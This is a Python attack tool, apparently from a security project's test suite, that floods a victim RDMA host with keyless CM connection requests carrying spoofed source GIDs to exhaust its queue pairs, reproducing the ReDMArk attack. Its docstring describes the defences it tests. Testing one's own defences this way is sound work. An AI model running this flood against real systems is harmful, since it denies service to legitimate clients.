"""QP exhaustion by a CM REQ flood (ReDMArk, USENIX Security 2021).

Every accepted connection request takes a QP on the victim until the connection ends, and anyone can send
a REQ: ReDMArk exhausted a victim's QPs (and the memory behind them) that way, so legitimate clients could
no longer connect. This tool sends keyless (mode 0) REQs for our CM service to ``--dst-gid`` in partition
``--pkey``, each with a fresh communication id and QPN and, unless ``--src-gid`` pins one, a fresh spoofed
source GID (random GUIDs that are not MAC-derived, random subnet prefixes), so no per-GID limit sees two.

What stops it (docs/security.md, the agent's admission): half-open connections are bounded per source GID,
per source MAC and per partition, keyless ones share a fixed part of the QP table, and half-open
connections are reaped after a timeout, so a member's sealed REQ still gets a QP during the flood.
"""

from __future__ import annotations

import argparse
import os
import secrets

from ibsec import addressing, cmwire, icrc, layers, rocev2
from ibsec.builder import Builder, gid_bytes
from ibsec.cmwire import IBSEC_SERVICE_ID

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run

EUI64_MIDDLE = 0xFFFE


def spoofed_gid() -> str:
    """A random GID whose GUID is not MAC-derived (so no host of ours owns it)."""
    while True:
        guid = secrets.randbits(64)
        if (guid >> 24) & 0xFFFF != EUI64_MIDDLE:
            return addressing.make_gid(secrets.randbits(16), guid, site_local=bool(secrets.randbits(1)))


def request(builder: Builder, args: argparse.Namespace) -> bytes:
    """One keyless REQ for our service, from the fixed or a fresh spoofed source GID."""
    mad = cmwire.write(cmwire.Message(layers.CmAttr.REQ, local_comm_id=secrets.randbits(32),
                                      service_id=IBSEC_SERVICE_ID, qpn=2 + secrets.randbelow((1 << 24) - 3),
                                      pkey=args.pkey, private=cmwire.pack_private(0, os.urandom(12))))
    frame = bytearray(builder.mad_frame(args.dst_gid, args.pkey, mad))
    frame[rocev2.SRC_GID_AT] = gid_bytes(gid_text(args.src_gid) if args.src_gid else spoofed_gid())
    return icrc.with_icrc(bytes(frame))


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.add_argument("--dst-gid", required=True, help="the victim host")
    p.add_argument("--pkey", type=int0, default=0xFFFF, help="partition of the requests")
    p.add_argument("--src-gid", help="one source GID for every REQ (default: a fresh spoofed one each)")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    builder = Builder(sock.mac, gid_bytes(sock.gid))
    summary = blast(sock, lambda i: request(builder, args), args)
    report({"attack": "req_flood", "pkey": args.pkey, "spoofed": args.src_gid is None, **summary})
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
